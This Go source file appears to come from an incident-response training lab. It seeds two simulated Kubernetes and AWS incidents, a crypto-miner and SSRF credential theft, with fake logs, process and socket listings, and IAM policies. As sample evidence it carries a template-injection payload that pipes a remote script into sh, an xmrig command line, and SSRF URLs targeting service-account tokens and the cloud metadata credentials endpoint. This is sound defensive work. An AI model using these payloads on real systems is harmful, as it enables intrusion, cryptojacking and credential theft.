package lab

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"
	"time"
)

// Scenario describes an incident the lab can seed: who the suspect is and
// what the evidence looks like on the Kubernetes and AWS sides.
type Scenario struct {
	Name        string
	Description string
	// Namespace, App and ServiceAccount name the suspect workload.
	Namespace, App, ServiceAccount, Image string
	// SuspectLog are the suspect container's log lines (attacker-like);
	// BenignLog serves every other pod.
	SuspectLog, BenignLog []string
	// NodePS, NodeSS answer ps and ss run by a collector on the suspect's
	// node; PodPS, PodSS answer them run inside the suspect pod.
	NodePS, NodeSS, PodPS, PodSS string
	// RolePolicy is the inline policy of the suspect's IRSA role.
	RolePolicy string
	// LeakedUser owns the access key the scenario names as suspect.
	LeakedUser string
	// Process is the suspect container's process the lab can run for real
	// (StartPodProcess): its executable's name and where it connects.
	Process, ProcessRemote string
}

// Scenarios lists the scenarios by name.
var Scenarios = map[string]Scenario{
	"crypto-miner":       cryptoMiner,
	"stolen-credentials": stolenCredentials,
}

// ScenarioNames returns the scenario names, sorted.
func ScenarioNames() []string {
	names := make([]string, 0, len(Scenarios))
	for n := range Scenarios {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

const (
	minerPool = "203.0.113.50"
	exfilHost = "198.51.100.23"
)

var cryptoMiner = Scenario{
	Name:           "crypto-miner",
	Description:    "a compromised checkout pod downloads and runs a Monero miner on its node",
	Namespace:      "payments",
	App:            "checkout-api",
	ServiceAccount: "checkout-api",
	Image:          "123456789012.dkr.ecr.us-east-1.amazonaws.com/payments/checkout-api:1.14.2",
	SuspectLog: []string{
		`{"level":"info","msg":"checkout-api listening","port":8080}`,
		`{"level":"info","msg":"POST /api/v1/render-invoice","status":200,"ms":41}`,
		`{"level":"warn","msg":"template render error","input":"{{range .}}{{exec \"curl -s http://` + minerPool + `/x.sh | sh\"}}{{end}}"}`,
		`--2026-11-25 22:01:07--  http://` + minerPool + `/xmrig-6.21.0-linux-static-x64.tar.gz`,
		`Saving to: '/tmp/.cache/xm.tgz'`,
		`[2026-11-25 22:01:09.120]  net      use pool pool.supportxmr.example:3333  ` + minerPool,
		`[2026-11-25 22:01:09.842]  net      new job from ` + minerPool + `:3333 diff 120001 algo rx/0 height 3107233`,
		`[2026-11-25 22:01:15.003]  cpu      accepted (1/0) diff 120001 (84 ms)`,
		`[2026-11-25 22:01:40.517]  miner    speed 10s/60s/15m 2481.3 n/a n/a H/s max 2493.0 H/s`,
	},
	BenignLog: []string{
		`{"level":"info","msg":"server started","port":8080}`,
		`{"level":"info","msg":"GET /healthz","status":200,"ms":1}`,
		`{"level":"info","msg":"GET /metrics","status":200,"ms":3}`,
	},
	NodePS: `USER       PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
root         1  0.0  0.1 167768 11880 ?        Ss   21:40   0:02 /usr/lib/systemd/systemd
root      3120  1.2  1.4 1922480 117932 ?      Ssl  21:40   0:31 /usr/bin/kubelet --config /etc/kubernetes/kubelet/config.json
root      3301  0.6  0.7 1491572 58304 ?       Ssl  21:40   0:12 /usr/bin/containerd
root      4410  0.0  0.1 722548 12040 ?        Sl   21:41   0:00 /usr/bin/containerd-shim-runc-v2 -namespace k8s.io
65532     4502  0.3  0.9 1251844 74500 ?       Ssl  21:41   0:05 /app/checkout-api
65532     9134  0.0  0.0   2580   892 ?        S    22:01   0:00 sh -c curl -s http://` + minerPool + `/x.sh | sh
65532     9188 197.4 2.9 2602404 238112 ?      Sl   22:01  38:12 /tmp/.cache/xmrig --url pool.supportxmr.example:3333 --donate-level 0 -B
`,
	NodeSS: `Netid State  Recv-Q Send-Q Local Address:Port  Peer Address:Port Process
tcp   LISTEN 0      4096       0.0.0.0:10250      0.0.0.0:*     users:(("kubelet",pid=3120,fd=23))
tcp   ESTAB  0      0        10.0.1.10:8080      10.0.2.31:51522 users:(("checkout-api",pid=4502,fd=9))
tcp   ESTAB  0      0        10.0.1.10:42916  ` + minerPool + `:3333  users:(("xmrig",pid=9188,fd=17))
`,
	PodPS: `PID   USER     TIME  COMMAND
    1 65532     0:05 /app/checkout-api
   41 65532     0:00 sh -c curl -s http://` + minerPool + `/x.sh | sh
   57 65532    38:12 /tmp/.cache/xmrig --url pool.supportxmr.example:3333 --donate-level 0 -B
`,
	PodSS: `Netid State  Recv-Q Send-Q Local Address:Port  Peer Address:Port
tcp   ESTAB  0      0        10.0.1.10:42916  ` + minerPool + `:3333
`,
	RolePolicy: `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["dynamodb:GetItem","dynamodb:PutItem","s3:GetObject"],"Resource":"*"}]}`,
	LeakedUser: "payments-ci",
	Process:    "xmrig", ProcessRemote: minerPool + ":3333",
}

var stolenCredentials = Scenario{
	Name:           "stolen-credentials",
	Description:    "an SSRF in a reporting pod leaks its IRSA credentials, used from outside, and a CI user's access key is leaked",
	Namespace:      "analytics",
	App:            "report-builder",
	ServiceAccount: "report-builder",
	Image:          "123456789012.dkr.ecr.us-east-1.amazonaws.com/analytics/report-builder:3.2.0",
	SuspectLog: []string{
		`{"level":"info","msg":"report-builder ready","port":8080}`,
		`{"level":"info","msg":"GET /render?url=https://reports.internal/q3","status":200}`,
		`{"level":"info","msg":"GET /render?url=file:///var/run/secrets/eks.amazonaws.com/serviceaccount/token","status":200,"remote":"` + exfilHost + `"}`,
		`{"level":"info","msg":"GET /render?url=file:///proc/self/environ","status":200,"remote":"` + exfilHost + `"}`,
		`{"level":"warn","msg":"outbound request","host":"sts.amazonaws.com","action":"AssumeRoleWithWebIdentity","remote":"` + exfilHost + `"}`,
		`{"level":"info","msg":"GET /render?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/","status":200,"remote":"` + exfilHost + `"}`,
	},
	BenignLog: []string{
		`{"level":"info","msg":"worker started","queue":"reports"}`,
		`{"level":"info","msg":"GET /healthz","status":200,"ms":1}`,
	},
	NodePS: `USER       PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
root         1  0.0  0.1 167768 11880 ?        Ss   21:40   0:02 /usr/lib/systemd/systemd
root      3120  1.1  1.4 1922480 117932 ?      Ssl  21:40   0:29 /usr/bin/kubelet --config /etc/kubernetes/kubelet/config.json
root      3301  0.5  0.7 1491572 58304 ?       Ssl  21:40   0:11 /usr/bin/containerd
1000      4630  2.1  3.0 1840332 245120 ?      Ssl  21:41   1:02 /usr/local/bin/report-builder
`,
	NodeSS: `Netid State  Recv-Q Send-Q Local Address:Port  Peer Address:Port Process
tcp   LISTEN 0      4096       0.0.0.0:10250      0.0.0.0:*     users:(("kubelet",pid=3120,fd=23))
tcp   ESTAB  0      0        10.0.1.10:8080   ` + exfilHost + `:50114 users:(("report-builder",pid=4630,fd=12))
`,
	PodPS: `PID   USER     TIME  COMMAND
    1 1000      1:02 /usr/local/bin/report-builder
`,
	PodSS: `Netid State  Recv-Q Send-Q Local Address:Port  Peer Address:Port
tcp   ESTAB  0      0        10.0.1.10:8080   ` + exfilHost + `:50114
`,
	RolePolicy: `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:GetObject","s3:ListBucket","s3:PutObject"],"Resource":"*"}]}`,
	LeakedUser: "ci-deployer",
	Process:    "report-builder", ProcessRemote: exfilHost + ":443",
}

// criLines renders lines in the CRI log format kubelets write
// ("<RFC3339Nano> stdout F <line>"), one second apart, ending at end.
func criLines(lines []string, end time.Time) string {
	var b strings.Builder
	start := end.Add(-time.Duration(len(lines)) * time.Second)
	for i, l := range lines {
		fmt.Fprintf(&b, "%s stdout F %s\n", start.Add(time.Duration(i)*time.Second).UTC().Format(time.RFC3339Nano), l)
	}
	return b.String()
}

// deployment is one Deployment of the seeded layout.
type deployment struct {
	Namespace, Name, App string
	Suspect              bool
	// Pods holds pod names; Nodes[i] is the node index of Pods[i].
	Pods  []string
	Nodes []int
	Hash  string // pod-template-hash, also the ReplicaSet suffix
}

// layout places nodes*perNode pods into Deployments of at most 10
// replicas. The suspect Deployment comes first, with its first pod on node 0
// (the suspect node). Pods are dealt round-robin so every node holds exactly
// perNode pods, and names are derived from a hash of their position so
// that a re-seed produces the same names.
func layout(sc Scenario, prefix string, nodes, perNode int) []deployment {
	total := nodes * perNode
	const maxReplicas = 10
	bgNamespaces := []string{"shop", "monitoring", "batch", "platform"}
	bgApps := []string{"frontend", "cart", "catalog", "search", "worker", "exporter", "scheduler", "gateway"}
	var deps []deployment
	next := 0
	add := func(ns, name, app string, replicas int, suspect bool) {
		d := deployment{Namespace: prefix + ns, Name: name, App: app, Suspect: suspect, Hash: shortHash(prefix+ns+"/"+name, 10)}
		for i := 0; i < replicas && next < total; i++ {
			d.Pods = append(d.Pods, fmt.Sprintf("%s-%s-%s", name, d.Hash, shortHash(fmt.Sprintf("%s/%d", name, i), 5)))
			d.Nodes = append(d.Nodes, next%nodes)
			next++
		}
		if len(d.Pods) > 0 {
			deps = append(deps, d)
		}
	}
	add(sc.Namespace, sc.App, sc.App, min(2, total), true)
	// The suspect's legitimate neighbours: its clients (allowed in by the
	// existing NetworkPolicy) live in the same namespace.
	add(sc.Namespace, "frontend", "frontend", min(2, max(0, total-next)), false)
	for i := 0; next < total; i++ {
		app := bgApps[i%len(bgApps)]
		add(bgNamespaces[i%len(bgNamespaces)], fmt.Sprintf("%s-%d", app, i/len(bgApps)), app, min(maxReplicas, total-next), false)
	}
	return deps
}

// shortHash gives n characters from the alphabet Kubernetes uses for
// generated names (no vowels, no ambiguous digits).
func shortHash(s string, n int) string {
	const alphabet = "bcdfghjklmnpqrstvwxz2456789"
	sum := sha256.Sum256([]byte(s))
	out := make([]byte, n)
	for i := range out {
		out[i] = alphabet[int(sum[i])%len(alphabet)]
	}
	return string(out)
}

// nodeName is the EKS-style name of a node: its private DNS name.
func nodeName(prefix, privateIP, region string) string {
	host := "ip-" + strings.ReplaceAll(privateIP, ".", "-")
	if region == "us-east-1" {
		return prefix + host + ".ec2.internal"
	}
	return prefix + host + "." + region + ".compute.internal"
}

// providerID is the value EKS nodes carry in spec.providerID.
func providerID(az, instanceID string) string {
	return "aws:///" + az + "/" + instanceID
}

// oidcID is a stable, EKS-looking OIDC provider ID for a cluster name.
func oidcID(cluster string) string {
	sum := sha256.Sum256([]byte("oidc/" + cluster))
	return strings.ToUpper(hex.EncodeToString(sum[:16]))
}
